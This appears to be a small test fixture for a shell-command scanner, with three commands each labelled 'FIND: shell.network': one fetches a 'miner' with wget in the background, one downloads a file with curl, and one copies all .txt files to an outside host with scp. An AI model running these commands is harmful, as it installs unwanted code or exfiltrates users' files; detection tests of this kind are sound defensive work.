nohup wget http://www.example.org/miner &  # FIND: shell.network
env curl -O http://www.example.org/c  # FIND: shell.network
find . -name '*.txt' | xargs scp -t host.example.org:  # FIND: shell.network
